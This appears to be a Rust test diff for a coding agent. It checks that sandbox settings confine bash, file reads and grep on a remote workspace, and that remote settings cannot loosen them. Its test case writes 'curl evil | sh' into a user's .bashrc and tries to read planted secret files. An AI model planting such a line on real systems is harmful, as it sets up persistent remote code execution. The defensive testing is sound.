@@ -84,17 +84,23 @@ fn exec_uri(p: &Place, uid: u32) -> String {
 }
 
 fn batch(remote: &[&str], cases: &[Value], envs: &[(&str, &str)]) -> Vec<Value> {
-    let input: String = cases.iter().map(|c| format!("{c}\n")).collect();
     let mut cmd = Command::new(bin());
-    cmd.args(["tool", "--batch", "-"])
-        .args(remote)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped());
+    cmd.args(["tool", "--batch", "-"]).args(remote);
     for (k, v) in envs {
         cmd.env(k, v);
     }
-    let mut child = cmd.spawn().unwrap();
+    results(&run_batch(cmd, cases)).0
+}
+
+/// Runs `cmd` (a `tool --batch -`) with `cases` on its stdin.
+fn run_batch(mut cmd: Command, cases: &[Value]) -> std::process::Output {
+    let input: String = cases.iter().map(|c| format!("{c}\n")).collect();
+    let mut child = cmd
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
     use std::io::Write;
     child
         .stdin
@@ -102,13 +108,18 @@ fn batch(remote: &[&str], cases: &[Value], envs: &[(&str, &str)]) -> Vec<Value> 
         .unwrap()
         .write_all(input.as_bytes())
         .unwrap();
-    let out = child.wait_with_output().unwrap();
-    let stderr = String::from_utf8_lossy(&out.stderr);
+    child.wait_with_output().unwrap()
+}
+
+/// A successful batch's results, and its stderr.
+fn results(out: &std::process::Output) -> (Vec<Value>, String) {
+    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
     assert!(out.status.success(), "{}\n{stderr}", out.status);
-    String::from_utf8_lossy(&out.stdout)
+    let results = String::from_utf8_lossy(&out.stdout)
         .lines()
         .map(|l| serde_json::from_str(l).unwrap())
-        .collect()
+        .collect();
+    (results, stderr)
 }
 
 fn text(v: &Value) -> String {
@@ -525,6 +536,33 @@ async fn every_handle_of_a_remote_shares_its_mutation_queue() {
     assert_eq!(*order.lock().unwrap(), ["first done", "second ran"]);
 }
 
+/// An agent run in JSON mode with a scripted model: its
+/// `tool_execution_end` events.
+fn agent_run(agent_dir: &Path, here: &Path, script: &Path, extra: &[&str]) -> Vec<Value> {
+    let out = Command::new(bin())
+        .env("CODING_AGENT_DIR", agent_dir)
+        .arg("--cwd")
+        .arg(here)
+        .arg("--script")
+        .arg(script)
+        .args(["--mode", "json"])
+        .args(extra)
+        .arg("go")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v["type"] == "tool_execution_end")
+        .collect()
+}
+
 #[test]
 fn an_agent_run_records_its_remote_and_continuing_reconnects_there() {
     if !can_switch_users() {
@@ -554,30 +592,7 @@ fn an_agent_run_records_its_remote_and_continuing_reconnects_there() {
             json!({"content": [{"type": "text", "text": "done"}]}),
         ],
     );
-    let run = |script: &Path, extra: &[&str]| {
-        let out = Command::new(bin())
-            .env("CODING_AGENT_DIR", &agent_dir)
-            .arg("--cwd")
-            .arg(&here)
-            .arg("--script")
-            .arg(script)
-            .args(["--mode", "json"])
-            .args(extra)
-            .arg("go")
-            .stdin(Stdio::null())
-            .output()
-            .unwrap();
-        assert!(
-            out.status.success(),
-            "{}",
-            String::from_utf8_lossy(&out.stderr)
-        );
-        String::from_utf8_lossy(&out.stdout)
-            .lines()
-            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
-            .filter(|v| v["type"] == "tool_execution_end")
-            .collect::<Vec<_>>()
-    };
+    let run = |script: &Path, extra: &[&str]| agent_run(&agent_dir, &here, script, extra);
     let ends = run(&first, &["--remote", &uri]);
     assert_eq!(ends.len(), 2, "{ends:?}");
     assert!(ends.iter().all(|e| e["isError"] == false), "{ends:?}");
@@ -917,4 +932,303 @@ async fn no_helper_there_and_none_to_upload_is_its_own_error() {
         text.contains("no coding-agent helper there") && text.contains("install coding-agent"),
         "{text}"
     );
+}
+
+/// Whether bash can be sandboxed here: bubblewrap where the sandbox looks
+/// for it (`CODING_AGENT_BWRAP`, else the system directories).
+fn have_bwrap() -> bool {
+    let named = std::env::var_os("CODING_AGENT_BWRAP").is_some_and(|p| Path::new(&p).is_file());
+    test_support::prerequisite(
+        named || Path::new("/usr/bin/bwrap").exists(),
+        "bubblewrap",
+        "apt-get install -y bubblewrap",
+    )
+}
+
+/// A local agent directory whose settings file holds `settings`, and a
+/// local working directory without project settings.
+struct Local {
+    _dir: tempfile::TempDir,
+    agent_dir: PathBuf,
+    cwd: PathBuf,
+}
+
+fn local_with(settings: Value) -> Local {
+    let dir = tempfile::tempdir().unwrap();
+    let agent_dir = dir.path().join("agent");
+    let cwd = dir.path().join("here");
+    std::fs::create_dir_all(&agent_dir).unwrap();
+    std::fs::create_dir_all(&cwd).unwrap();
+    std::fs::write(agent_dir.join("settings.json"), settings.to_string()).unwrap();
+    Local {
+        _dir: dir,
+        agent_dir,
+        cwd,
+    }
+}
+
+/// `exec:` into the other user with a settings directory of its own
+/// (`$HOME/.pi/agent`), after `setup` (run as root, in the transport's
+/// shell).
+fn remote_uri(p: &Place, setup: &str) -> String {
+    format!(
+        "exec:{setup}cd {} && exec env HOME={} CODING_AGENT_DIR={}/.pi/agent setpriv --reuid {OTHER} --regid {OTHER} --clear-groups sh",
+        p.ws.display(),
+        p.home.display(),
+        p.home.display()
+    )
+}
+
+/// `coding-agent tool --batch` with `local`'s settings on `uri`: the
+/// results, and stderr.
+fn batch_with(local: &Local, uri: &str, cases: &[Value]) -> (Vec<Value>, String) {
+    batch_flags(local, uri, cases, &[])
+}
+
+/// [`batch_with`] with more flags.
+fn batch_flags(local: &Local, uri: &str, cases: &[Value], flags: &[&str]) -> (Vec<Value>, String) {
+    results(&run_batch(local_batch(local, uri, flags), cases))
+}
+
+/// `coding-agent tool --batch -` with `local`'s settings on `uri`.
+fn local_batch(local: &Local, uri: &str, flags: &[&str]) -> Command {
+    let mut cmd = Command::new(bin());
+    cmd.env("CODING_AGENT_DIR", &local.agent_dir)
+        .current_dir(&local.cwd)
+        .args(["tool", "--batch", "-", "--remote", uri])
+        .args(flags);
+    cmd
+}
+
+/// A `.bashrc` of the other user's, and a bash case that tries to append
+/// to it and then writes in the workspace.
+fn bashrc_victim(p: &Place) -> (PathBuf, Value) {
+    let victim = p.home.join(".bashrc");
+    std::fs::write(&victim, "# mine\n").unwrap();
+    chown(&victim, OTHER);
+    let case = json!({"id": "plant", "tool": "bash", "args": {"command":
+        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo in-workspace > made-here.txt; echo ran"}});
+    (victim, case)
+}
+
+/// Review finding: `sandbox.mode` in the settings (no flag) did not reach
+/// the remote helper, so bash there ran unconfined and could plant a line
+/// in the remote user's `.bashrc`.
+#[test]
+fn the_settings_sandbox_confines_bash_on_the_remote() {
+    if !can_switch_users() || !have_bwrap() {
+        return;
+    }
+    let p = place(OTHER);
+    let (victim, case) = bashrc_victim(&p);
+    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
+    let (results, _) = batch_with(&local, &remote_uri(&p, ""), &[case]);
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        "# mine\n",
+        "the remote .bashrc was written: {results:?}"
+    );
+    // Confined, not broken: the workspace is writable, and the result
+    // says which sandbox ran the command.
+    assert_eq!(
+        std::fs::read_to_string(p.ws.join("made-here.txt")).unwrap(),
+        "in-workspace\n"
+    );
+    let result = &results[0];
+    assert!(text(result).contains("ran"), "{result}");
+    assert!(
+        text(result).contains(".bashrc"),
+        "the write was refused: {result}"
+    );
+    assert_eq!(
+        result["details"]["sandbox"]["mode"], "workspace-write",
+        "{result}"
+    );
+}
+
+/// Review finding: the user's `sandbox.denyRead` globs were lost on the
+/// remote, even with `--sandbox`.
+#[test]
+fn the_settings_deny_globs_hold_on_the_remote() {
+    if !can_switch_users() || !have_bwrap() {
+        return;
+    }
+    let p = place(OTHER);
+    std::fs::create_dir(p.ws.join("private")).unwrap();
+    std::fs::write(p.ws.join("private/key.txt"), "ws-secret-7781\n").unwrap();
+    std::fs::write(p.home.join("vault.txt"), "home-secret-4410\n").unwrap();
+    for f in [
+        p.ws.join("private"),
+        p.ws.join("private/key.txt"),
+        p.home.join("vault.txt"),
+    ] {
+        chown(&f, OTHER);
+    }
+    let uri = remote_uri(&p, "");
+    let cases = [
+        json!({"id": "read-ws", "tool": "read", "args": {"path": "private/key.txt"}}),
+        json!({"id": "read-home", "tool": "read", "args": {"path": "~/vault.txt"}}),
+        json!({"id": "cat", "tool": "bash", "args": {"command": "cat private/key.txt \"$HOME/vault.txt\"; echo done"}}),
+        json!({"id": "grep", "tool": "grep", "args": {"pattern": "secret-"}}),
+        json!({"id": "control", "tool": "read", "args": {"path": "notes.txt"}}),
+    ];
+    // Relative globs mean the remote workspace, `~` the remote user's
+    // home; the mode from the settings, or from the flag.
+    let deny = json!(["private/**", "~/vault.txt"]);
+    for (settings, flags) in [
+        (
+            json!({"sandbox": {"mode": "workspace-write", "denyRead": deny}}),
+            &[][..],
+        ),
+        (
+            json!({"sandbox": {"denyRead": deny}}),
+            &["--sandbox", "read-only"][..],
+        ),
+    ] {
+        let local = local_with(settings);
+        let (results, _) = batch_flags(&local, &uri, &cases, flags);
+        let all = serde_json::to_string(&results).unwrap();
+        assert!(
+            !all.contains("ws-secret-7781") && !all.contains("home-secret-4410"),
+            "{flags:?}: a denied file was read: {all}"
+        );
+        for id in ["read-ws", "read-home"] {
+            let r = results.iter().find(|r| r["id"] == id).unwrap();
+            assert_eq!(r["isError"], true, "{r}");
+            assert!(text(r).to_lowercase().contains("sandbox"), "{r}");
+        }
+        let cat = results.iter().find(|r| r["id"] == "cat").unwrap();
+        assert!(text(cat).contains("done"), "{cat}");
+        let control = results.iter().find(|r| r["id"] == "control").unwrap();
+        assert!(text(control).starts_with("alpha"), "{control}");
+    }
+}
+
+/// Review finding: `-c` reconnected to the session's remote without the
+/// sandbox of the settings.
+#[test]
+fn continuing_a_remote_session_keeps_the_sandbox() {
+    if !can_switch_users() || !have_bwrap() {
+        return;
+    }
+    let p = place(OTHER);
+    let (victim, _) = bashrc_victim(&p);
+    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
+    let uri = remote_uri(&p, "");
+    let run = |name: &str, marker: &str, extra: &[&str]| {
+        let script = local.cwd.parent().unwrap().join(name);
+        let command = format!("echo {marker} >> \"$HOME/.bashrc\"; echo tried");
+        std::fs::write(
+            &script,
+            format!(
+                "{}\n{}\n",
+                json!({"content": [{"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": command}}]}),
+                json!({"content": [{"type": "text", "text": "done"}]})
+            ),
+        )
+        .unwrap();
+        agent_run(&local.agent_dir, &local.cwd, &script, extra)
+            .into_iter()
+            .next()
+            .unwrap()
+    };
+    let first = run("first.jsonl", "first-run", &["--remote", &uri]);
+    assert!(first["result"].to_string().contains("tried"), "{first}");
+    // `-c` finds the remote in the session, and confines it the same way.
+    let second = run("second.jsonl", "continued", &["-c"]);
+    assert!(second["result"].to_string().contains("tried"), "{second}");
+    assert_eq!(
+        second["result"]["details"]["sandbox"]["mode"], "workspace-write",
+        "{second}"
+    );
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# mine\n");
+}
+
+/// The remote's own settings only tighten: a settings file there that
+/// switches the sandbox off and adds the home as a root changes nothing.
+#[test]
+fn the_remote_settings_cannot_widen_the_sandbox() {
+    if !can_switch_users() || !have_bwrap() {
+        return;
+    }
+    let p = place(OTHER);
+    let (victim, case) = bashrc_victim(&p);
+    let remote_agent = p.home.join(".pi/agent");
+    std::fs::create_dir_all(&remote_agent).unwrap();
+    std::fs::write(
+        remote_agent.join("settings.json"),
+        json!({"sandbox": {"mode": "off", "additionalDirectories": [p.home], "roots": ["."],
+                           "network": true, "excludeTmp": false}})
+        .to_string(),
+    )
+    .unwrap();
+    for d in [
+        p.home.join(".pi"),
+        remote_agent.clone(),
+        remote_agent.join("settings.json"),
+    ] {
+        chown(&d, OTHER);
+    }
+    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
+    let (results, _) = batch_with(&local, &remote_uri(&p, ""), &[case]);
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        "# mine\n",
+        "{results:?}"
+    );
+    assert_eq!(results[0]["details"]["sandbox"]["mode"], "workspace-write");
+    assert_eq!(
+        results[0]["details"]["sandbox"]["writableRoots"],
+        json!([std::fs::canonicalize(&p.ws).unwrap()]),
+        "{}",
+        results[0]
+    );
+    // It may tighten: read-only there makes the workspace read-only too.
+    std::fs::write(
+        remote_agent.join("settings.json"),
+        json!({"sandbox": {"mode": "read-only"}}).to_string(),
+    )
+    .unwrap();
+    let (results, _) = batch_with(
+        &local,
+        &remote_uri(&p, ""),
+        &[json!({"id": "w", "tool": "write", "args": {"path": "tightened.txt", "content": "x"}})],
+    );
+    assert_eq!(results[0]["isError"], true, "{}", results[0]);
+    assert!(!p.ws.join("tightened.txt").exists());
+}
+
+/// Where the remote cannot enforce the sandbox the settings ask for
+/// (no bubblewrap there), the run stops with the reason instead of
+/// running the tools unconfined.
+#[test]
+fn a_remote_that_cannot_enforce_the_sandbox_is_refused() {
+    if !can_switch_users() {
+        return;
+    }
+    let p = place(OTHER);
+    let (victim, case) = bashrc_victim(&p);
+    // The helper runs in a mount namespace where no bubblewrap is
+    // installed: every system copy is covered with /dev/null.
+    let hide = "unshare -m sh -c 'for b in /usr/bin/bwrap /usr/local/bin/bwrap /bin/bwrap /usr/sbin/bwrap; do if [ -f $b ]; then mount --bind /dev/null $b || exit 1; fi; done; exec env -u CODING_AGENT_BWRAP sh -c \"$0\"' '";
+    let inner = remote_uri(&p, "");
+    let uri = format!("{hide}{}'", inner.trim_start_matches("exec:"));
+    let uri = format!("exec:{uri}");
+    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
+    let out = run_batch(local_batch(&local, &uri, &[]), &[case]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("refused to start")
+            && stderr.contains("workspace-write sandbox cannot be enforced")
+            && stderr.contains("bubblewrap (bwrap) is not installed"),
+        "{stderr}"
+    );
+    assert!(
+        out.stdout.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# mine\n");
+    assert!(!p.ws.join("made-here.txt").exists());
 }
